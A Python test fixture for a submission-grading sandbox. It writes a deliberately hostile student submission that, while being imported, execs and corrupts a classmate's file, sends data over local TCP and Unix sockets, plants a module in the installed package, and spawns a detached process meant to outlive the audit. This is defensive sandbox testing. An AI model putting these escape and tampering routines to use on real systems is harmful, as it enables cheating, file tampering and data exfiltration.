"""Submissions that try, while being imported, to reach past their worker's sandbox (:mod:`oracle.targets.sandbox`).

:func:`write_class` lays out a class of two: a hostile submission and an honest classmate. The hostile one
leaves ``rnn_step_backward`` a stub (``not_implemented``), then tries each of :data:`ATTEMPTS`:

- ``copy``: read the classmate's file and run it in its own module, which would replace its stub
  with the classmate's right function (its verdict would become ``pass``);
- ``append``: append a line to the classmate's file that ends the classmate's import (its verdict
  would become an import error);
- ``connect``: open a TCP connection to a port the test listens on, on 127.0.0.1;
- ``unix``: connect to a named Unix socket the test listens on (as a Docker or D-Bus socket would);
- ``install``: write a module into the installed rnn-oracle (the ``oracle/`` folder it is imported from);
- ``outlive``: start, in a session of its own, a process (``sleep`` with a token as its argument) that
  would outlive the audit.

Each but the last prints ``<name>: got through`` or ``<name>: stopped (<error>)``; the output is
kept as evidence in the report, never trusted: the tests check the effects themselves (the verdicts,
the classmate's file, the installation, the listening socket, the processes left).
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from pathlib import Path

import oracle

#: The attempts of the hostile submission, in the order it makes them.
ATTEMPTS = ("copy", "append", "connect", "unix", "install", "outlive")

#: Where a module written into the installation would go: the ``oracle`` package the workers import.
INSTALLATION = Path(oracle.__file__).resolve().parent

#: The classmate's honest file: impl's right functions.
HONEST = "import numpy as np\n\nfrom impl import *  # noqa: F403\n"

HOSTILE = '''import os
import socket
import sys

import numpy as np

import impl as _impl
from impl import *  # noqa: F403


def rnn_step_backward(dnext_h, cache):
    raise NotImplementedError("left for later")


def _attempt(name, action):
    try:
        action()
    except BaseException as error:
        print(f"{{name}}: stopped ({{type(error).__name__}}: {{error}})")
    else:
        print(f"{{name}}: got through")


def _copy():
    with open({classmate!r}) as handle:
        exec(compile(handle.read(), {classmate!r}, "exec"), globals())


def _append():
    with open({classmate!r}, "a") as handle:
        handle.write("\\nraise SystemExit('appended by a classmate')\\n")


def _connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
        connection.sendall(b"exfiltrated")


def _unix():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect({unix!r})
        connection.sendall(b"exfiltrated")


def _install():
    with open({installed!r}, "w") as handle:
        handle.write("print('planted by a target')\\n")


def _outlive():
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", {token!r}])
        finally:
            os._exit(0)
    os.waitpid(child, 0)


for _name, _action in [("copy", _copy), ("append", _append), ("connect", _connect), ("unix", _unix),
                       ("install", _install)]:
    _attempt(_name, _action)
_outlive()  # it gets through: what must fail is its outliving the audit
sys.stdout.flush()
'''


@dataclass(frozen=True)
class ClassOfTwo:
    """A class laid out for one test: the targets as given on the command line, and what to check after.

    Attributes
    ----------
    hostile, honest
        The two targets, relative to ``root`` (the folder the audit runs in).
    classmate
        The honest submission's file, which the hostile one reads and appends to.
    installed
        The module the hostile one writes into the installation.
    token
        ``sleep``'s argument in the process meant to outlive the audit (how the test finds it).
    """

    root: Path
    hostile: str
    honest: str
    classmate: Path
    installed: Path
    token: str


#: Ways a class hands in its work: a course folder each, or one ``.py`` file each in a shared folder.
LAYOUTS = {
    "course folders": ("a/cs231n", "b/cs231n", "rnn_layers.py"),
    "files in one folder": ("class/a.py", "class/b.py", ""),
}


def write_class(root: Path, layout: str, port: int, unix: Path) -> ClassOfTwo:
    """Lay out a class of two under ``root`` (:data:`LAYOUTS`); the hostile one attacks ``port`` and ``unix``."""
    hostile, honest, module = LAYOUTS[layout]
    token = f"{4000 + secrets.randbelow(10**6) / 1000:.3f}"
    files = [root / target / module if module else root / target for target in (hostile, honest)]
    installed = INSTALLATION / f"planted_{token.replace('.', '_')}.py"
    for file in files:
        file.parent.mkdir(parents=True, exist_ok=True)
    files[1].write_text(HONEST)
    files[0].write_text(HOSTILE.format(classmate=str(files[1]), port=port, unix=str(unix), installed=str(installed),
                                       token=token))
    return ClassOfTwo(root, hostile, honest, files[1], installed, token)


def processes_with(token: str) -> list[int]:
    """The process ids whose command line holds ``token`` as an argument."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            words = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if token.encode() in words:
            found.append(int(entry.name))
    return found


#: A submission that reads a data file beside itself while being imported, and needs it to pass.
READS_ITS_DATA = '''import numpy as np
from pathlib import Path

import impl as _impl
from impl import *  # noqa: F403

_SCALE = float((Path(__file__).resolve().parent / "scale.txt").read_text())


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h, cache = _impl.rnn_step_forward(x, prev_h, Wx, Wh, b)
    return _SCALE * next_h, cache
'''
